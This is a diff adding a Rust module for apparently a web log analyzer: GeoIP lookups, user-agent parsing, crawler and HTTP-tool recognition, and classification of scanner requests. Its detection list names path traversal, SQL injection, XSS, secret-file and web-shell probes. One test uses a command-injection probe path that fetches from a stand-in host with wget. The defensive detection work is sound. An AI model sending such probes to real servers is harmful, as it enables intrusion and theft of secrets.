@@ -0,0 +1,380 @@
+use std::cell::RefCell;
+use std::net::IpAddr;
+use std::path::PathBuf;
+
+use anyhow::{Context, Result};
+use log::debug;
+use maxminddb::{geoip2, Reader};
+use once_cell::sync::{Lazy, OnceCell};
+use regex::Regex;
+use woothee::parser::Parser;
+
+// The MaxMind databases given on the command line. They are opened once at startup.
+static GEOIP_READERS: OnceCell<Vec<Reader<Vec<u8>>>> = OnceCell::new();
+
+/// Open the MaxMind databases used to look up client addresses.
+pub(crate) fn open_geoip_databases(paths: &[PathBuf]) -> Result<()> {
+    let readers = paths
+        .iter()
+        .map(|p| {
+            debug!("opening geoip database {}", p.display());
+            Reader::open_readfile(p).with_context(|| format!("opening {}", p.display()))
+        })
+        .collect::<Result<Vec<_>>>()?;
+    // This is only ever called once so the cell is always empty.
+    let _ = GEOIP_READERS.set(readers);
+    Ok(())
+}
+
+static UA_PARSER: Lazy<Parser> = Lazy::new(Parser::new);
+
+// Woothee reports anything it does not recognize as UNKNOWN.
+fn known(value: &str) -> Option<String> {
+    match value {
+        "" | "UNKNOWN" => None,
+        v => Some(v.to_string()),
+    }
+}
+
+// The parts of a user agent that Woothee recognized.
+#[derive(Clone, Default)]
+struct UserAgent {
+    name: Option<String>,
+    os: Option<String>,
+    category: Option<String>,
+}
+
+thread_local! {
+    // The user agent that was parsed last on this thread. Every field derived from the user agent
+    // of a record asks for it in turn, so it is only parsed once per record.
+    static LAST_USER_AGENT: RefCell<Option<(String, UserAgent)>> = const { RefCell::new(None) };
+}
+
+fn parse_user_agent(ua: &str) -> UserAgent {
+    LAST_USER_AGENT.with(|last| {
+        let mut last = last.borrow_mut();
+        if let Some((_, parsed)) = last.as_ref().filter(|(l, _)| l == ua) {
+            return parsed.clone();
+        }
+        let parsed = UA_PARSER
+            .parse(ua)
+            .map_or_else(UserAgent::default, |r| UserAgent {
+                name: known(r.name),
+                os: known(r.os),
+                category: known(r.category),
+            });
+        *last = Some((ua.to_string(), parsed.clone()));
+        parsed
+    })
+}
+
+/// The name of the browser or client in a user agent, for example Chrome or curl.
+pub(crate) fn ua_browser(ua: &str) -> Option<String> {
+    parse_user_agent(ua).name
+}
+
+/// The operating system in a user agent, for example Windows 10 or iPhone.
+pub(crate) fn ua_os(ua: &str) -> Option<String> {
+    parse_user_agent(ua).os
+}
+
+/// The kind of device in a user agent: pc, smartphone, mobilephone, crawler, appliance or misc.
+pub(crate) fn ua_device(ua: &str) -> Option<String> {
+    parse_user_agent(ua).category
+}
+
+// Version numbers such as /5.0, 10_15_7 or v2 along with what separates them from the name.
+static VERSION_REGEX: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"[/ ]?\bv?\d+(?:[._]\d+)*\b").unwrap());
+
+/// The browser and operating system of a user agent, for example Chrome on Windows 10, so that
+/// every version of them counts as one. Known crawlers and tools go by their name and any other
+/// user agent is kept with its version numbers removed, such as MyApp for MyApp/3.2.
+pub(crate) fn ua_name(ua: &str) -> Option<String> {
+    if let Some(name) = bot_name(ua)
+        .filter(|n| *n != "other")
+        .or_else(|| tool_name(ua))
+    {
+        return Some(name.to_string());
+    }
+    // Woothee groups crawlers and libraries under broad names such as HTTP Library.
+    let parsed = parse_user_agent(ua);
+    if parsed.category.as_deref() != Some("crawler") {
+        match (parsed.name, parsed.os) {
+            (Some(name), Some(os)) if name != os => return Some(format!("{} on {}", name, os)),
+            (Some(name), _) => return Some(name),
+            _ => {}
+        }
+    }
+    let stripped = VERSION_REGEX.replace_all(ua, "");
+    let name = stripped.split_whitespace().collect::<Vec<&str>>().join(" ");
+    match name.as_str() {
+        "" | "-" => None,
+        _ => Some(name),
+    }
+}
+
+// Well known crawlers as a lowercase user agent substring and the name they are reported as. These
+// are checked in order so the more specific signatures come first.
+const BOT_SIGNATURES: &[(&str, &str)] = &[
+    ("googlebot", "Googlebot"),
+    ("adsbot-google", "Googlebot"),
+    ("bingbot", "Bingbot"),
+    ("yandex", "YandexBot"),
+    ("baiduspider", "Baiduspider"),
+    ("duckduckbot", "DuckDuckBot"),
+    ("slurp", "Yahoo! Slurp"),
+    ("applebot", "Applebot"),
+    ("facebookexternalhit", "Facebook"),
+    ("twitterbot", "Twitterbot"),
+    ("linkedinbot", "LinkedInBot"),
+    ("slackbot", "Slackbot"),
+    ("discordbot", "Discordbot"),
+    ("ahrefsbot", "AhrefsBot"),
+    ("semrushbot", "SemrushBot"),
+    ("mj12bot", "MJ12bot"),
+    ("dotbot", "DotBot"),
+    ("petalbot", "PetalBot"),
+    ("bytespider", "Bytespider"),
+    ("gptbot", "GPTBot"),
+    ("claudebot", "ClaudeBot"),
+    ("ccbot", "CCBot"),
+    ("amazonbot", "Amazonbot"),
+    ("seznambot", "SeznamBot"),
+    ("uptimerobot", "UptimeRobot"),
+    ("pingdom", "Pingdom"),
+];
+
+/// The name of the crawler a user agent belongs to, if any. Crawlers that are not listed are
+/// reported as other when they call themselves a bot as a whole word or before a version, so phones
+/// such as the CUBOT are not taken for one.
+pub(crate) fn bot_name(ua: &str) -> Option<&'static str> {
+    let ua = ua.to_lowercase();
+    let known = BOT_SIGNATURES
+        .iter()
+        .find(|(signature, _)| ua.contains(signature))
+        .map(|(_, name)| *name);
+    let generic = || {
+        ua.contains("bot/")
+            || ua.contains("crawl")
+            || ua.contains("spider")
+            || ua.split(|c: char| !c.is_alphanumeric()).any(|w| w == "bot")
+    };
+    known.or_else(|| if generic() { Some("other") } else { None })
+}
+
+// HTTP clients and libraries as a lowercase user agent substring and the name they are reported as.
+// These are scripts rather than crawlers so they are kept apart from the bots.
+const TOOL_SIGNATURES: &[(&str, &str)] = &[
+    ("curl/", "curl"),
+    ("wget/", "Wget"),
+    ("python-requests", "python-requests"),
+    ("python-urllib", "Python-urllib"),
+    ("python-httpx", "python-httpx"),
+    ("aiohttp/", "aiohttp"),
+    ("go-http-client", "Go-http-client"),
+    ("libwww-perl", "libwww-perl"),
+    ("apache-httpclient", "Apache-HttpClient"),
+    ("java/", "Java"),
+    ("axios/", "axios"),
+    ("node-fetch", "node-fetch"),
+    ("httpie/", "HTTPie"),
+];
+
+/// The name of the HTTP client or library a user agent belongs to, if any.
+pub(crate) fn tool_name(ua: &str) -> Option<&'static str> {
+    let ua = ua.to_lowercase();
+    TOOL_SIGNATURES
+        .iter()
+        .find(|(signature, _)| ua.contains(signature))
+        .map(|(_, name)| *name)
+}
+
+// Paths that only scanners ask for as a lowercase substring and the kind of attack they are
+// reported as. These are checked in order so the more specific signatures come first.
+const SCAN_SIGNATURES: &[(&str, &str)] = &[
+    ("../", "path traversal"),
+    ("..\\", "path traversal"),
+    ("..%2f", "path traversal"),
+    ("..%5c", "path traversal"),
+    ("%2e%2e", "path traversal"),
+    ("/etc/passwd", "path traversal"),
+    ("win.ini", "path traversal"),
+    ("union select", "sql injection"),
+    ("union%20select", "sql injection"),
+    ("union+select", "sql injection"),
+    ("<script", "xss"),
+    ("%3cscript", "xss"),
+    ("/.env", "secrets"),
+    ("/.git/", "secrets"),
+    ("/.svn/", "secrets"),
+    ("/.aws/", "secrets"),
+    ("/.ssh/", "secrets"),
+    ("/.htpasswd", "secrets"),
+    ("/.ds_store", "secrets"),
+    ("wp-login.php", "wordpress"),
+    ("xmlrpc.php", "wordpress"),
+    ("/wp-admin", "wordpress"),
+    ("/wp-includes", "wordpress"),
+    ("/phpmyadmin", "admin panel"),
+    ("/pma/", "admin panel"),
+    ("/adminer", "admin panel"),
+    ("/manager/html", "admin panel"),
+    ("/actuator", "admin panel"),
+    ("eval-stdin.php", "exploit"),
+    ("/cgi-bin/", "exploit"),
+    ("/boaform", "exploit"),
+    ("/hnap1", "exploit"),
+    ("/shell?", "exploit"),
+    ("/shell.php", "exploit"),
+    ("/cmd.php", "exploit"),
+    ("/c99.php", "exploit"),
+    ("/r57.php", "exploit"),
+    ("/wso.php", "exploit"),
+];
+
+/// The kind of attack a request for the path is probing for, if any. Sites that run WordPress or
+/// one of these tools themselves will have their own requests reported as well.
+pub(crate) fn scan_type(path: &str) -> Option<&'static str> {
+    let path = path.to_lowercase();
+    SCAN_SIGNATURES
+        .iter()
+        .find(|(signature, _)| path.contains(signature))
+        .map(|(_, name)| *name)
+}
+
+// Run a lookup against each database returning the first value that is found.
+fn geoip_lookup<'a, T, F, V>(addr: &str, f: F) -> Option<V>
+where
+    T: serde::Deserialize<'a>,
+    F: Fn(T) -> Option<V>,
+{
+    let ip = addr.parse::<IpAddr>().ok()?;
+    GEOIP_READERS
+        .get()?
+        .iter()
+        .filter_map(|r| r.lookup::<T>(ip).ok())
+        .find_map(f)
+}
+
+/// The ISO code of the country the address belongs to.
+pub(crate) fn country(addr: &str) -> Option<String> {
+    geoip_lookup(addr, |c: geoip2::City| {
+        c.country?.iso_code.map(String::from)
+    })
+}
+
+/// The English name of the city the address belongs to.
+pub(crate) fn city(addr: &str) -> Option<String> {
+    geoip_lookup(addr, |c: geoip2::City| {
+        c.city?.names?.get("en").map(|n| n.to_string())
+    })
+}
+
+/// The autonomous system number the address belongs to.
+pub(crate) fn asn(addr: &str) -> Option<u32> {
+    geoip_lookup(addr, |a: geoip2::Asn| a.autonomous_system_number)
+}
+
+/// The organization that operates the autonomous system the address belongs to, such as
+/// AMAZON-02.
+pub(crate) fn as_org(addr: &str) -> Option<String> {
+    geoip_lookup(addr, |a: geoip2::Asn| {
+        a.autonomous_system_organization.map(String::from)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn user_agents() {
+        let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36";
+        assert_eq!(ua_browser(ua).as_deref(), Some("Chrome"));
+        assert_eq!(ua_os(ua).as_deref(), Some("Windows 10"));
+        assert_eq!(ua_device(ua).as_deref(), Some("pc"));
+        assert_eq!(ua_browser("-"), None);
+    }
+
+    #[test]
+    fn normalized_user_agents() {
+        let chrome = |version| {
+            format!(
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{} Safari/537.36",
+                version
+            )
+        };
+        assert_eq!(
+            ua_name(&chrome("90.0.4430.93")).as_deref(),
+            Some("Chrome on Windows 10")
+        );
+        assert_eq!(
+            ua_name(&chrome("120.0.0.0")),
+            ua_name(&chrome("90.0.4430.93"))
+        );
+        assert_eq!(ua_name("curl/8.4.0").as_deref(), Some("curl"));
+        assert_eq!(
+            ua_name("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
+                .as_deref(),
+            Some("Googlebot")
+        );
+        assert_eq!(
+            ua_name("MyApp/3.2 (build 4512) okhttp/4.9.0").as_deref(),
+            Some("MyApp (build) okhttp")
+        );
+        assert_eq!(ua_name("-"), None);
+    }
+
+    #[test]
+    fn bots() {
+        let ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+        assert_eq!(bot_name(ua), Some("Googlebot"));
+        assert_eq!(bot_name("SomeNewCrawler/1.0"), Some("other"));
+        assert_eq!(bot_name("SomeNewBot/1.0"), Some("other"));
+        assert_eq!(
+            bot_name("Mozilla/5.0 (Linux; Android 9; CUBOT KING KONG 3) AppleWebKit/537.36"),
+            None
+        );
+        assert_eq!(
+            bot_name("Mozilla/5.0 (Linux; Android 10; CUBOT_X19) AppleWebKit/537.36"),
+            None
+        );
+        assert_eq!(bot_name("curl/8.4.0"), None);
+        assert_eq!(
+            bot_name("Mozilla/5.0 (X11; Linux x86_64) Firefox/90.0"),
+            None
+        );
+    }
+
+    #[test]
+    fn scans() {
+        assert_eq!(scan_type("/wp-login.php"), Some("wordpress"));
+        assert_eq!(scan_type("/.env"), Some("secrets"));
+        assert_eq!(scan_type("/PHPMyAdmin/index.php"), Some("admin panel"));
+        assert_eq!(
+            scan_type("/static/..%2F..%2Fetc/passwd"),
+            Some("path traversal")
+        );
+        assert_eq!(scan_type("/.git/config"), Some("secrets"));
+        assert_eq!(scan_type("/index.html"), None);
+        assert_eq!(scan_type("/environment"), None);
+        assert_eq!(scan_type("/shell?cd+/tmp;wget+http://x/a"), Some("exploit"));
+        assert_eq!(scan_type("/uploads/shell.php"), Some("exploit"));
+        assert_eq!(scan_type("/shells/"), None);
+        assert_eq!(scan_type("/shellfish-recipes"), None);
+        assert_eq!(scan_type("/docs/shell"), None);
+    }
+
+    #[test]
+    fn tools() {
+        assert_eq!(tool_name("curl/8.4.0"), Some("curl"));
+        assert_eq!(tool_name("python-requests/2.31.0"), Some("python-requests"));
+        assert_eq!(tool_name("Go-http-client/1.1"), Some("Go-http-client"));
+        assert_eq!(tool_name("Wget/1.21.4"), Some("Wget"));
+        assert_eq!(
+            tool_name("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+            None
+        );
+    }
+}